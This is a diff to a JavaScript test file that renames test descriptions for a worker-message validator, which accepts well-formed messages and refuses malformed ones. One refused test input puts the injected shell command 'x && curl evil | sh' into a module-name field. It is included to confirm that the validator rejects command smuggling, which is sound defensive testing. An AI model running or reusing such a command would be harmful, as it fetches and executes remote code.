@@ -14,7 +14,7 @@ for (const message of [
   { kind: "unavailable", reason: "not there" },
   { kind: "image kept" },
 ]) {
-  test(`an honest message passes: ${message.kind}`, () => {
+  test(`a message of our worker is valid: ${message.kind}`, () => {
     assert.deepEqual(validateMessage(message), message);
   });
 }
@@ -27,18 +27,18 @@ for (const [what, message] of Object.entries({
   "an unknown stream": { kind: "output", stream: "class", text: "x" },
   "an unknown start": { kind: "ready", startedFrom: "elsewhere" },
   "an exit code that is no number": { ...finished, exit: "0" },
-  "an exit code that no process has": { ...finished, exit: 256 },
-  "a limit of nothing known": { kind: "capped", limit: 5, unit: "<b>" },
+  "an exit code above 255": { ...finished, exit: 256 },
+  "a limit in an unknown unit": { kind: "capped", limit: 5, unit: "<b>" },
   "frames that are no list": { ...finished, frames: 7 },
   "a line before the first": { ...finished, frames: [{ file: "a.py", line: -1 }] },
   "very many frames": { ...finished, frames: Array(10_000).fill(finished.frames[0]) },
-  "a kind that reads like one": { ...finished, kind: ["finished"] },
-  "a total of nothing": { kind: "progress", phase: "start", loaded: 0, total: 0 },
-  "more output than passes": { kind: "output", stream: "stdout", text: "x".repeat(100_001) },
-  "a name that is more than one": { ...finished, missing: "x && curl evil | sh" },
+  "a list that reads like a kind": { ...finished, kind: ["finished"] },
+  "a total of zero": { kind: "progress", phase: "start", loaded: 0, total: 0 },
+  "more output than the limit": { kind: "output", stream: "stdout", text: "x".repeat(100_001) },
+  "a module name with other text": { ...finished, missing: "x && curl evil | sh" },
   "a name too long to read": { ...finished, missing: "x".repeat(10_000) },
 })) {
-  test(`a message that nobody honest sends breaks the run: ${what}`, () => {
+  test(`a message that our worker never sends is refused: ${what}`, () => {
     assert.equal(validateMessage(message).kind, "broken");
   });
 }
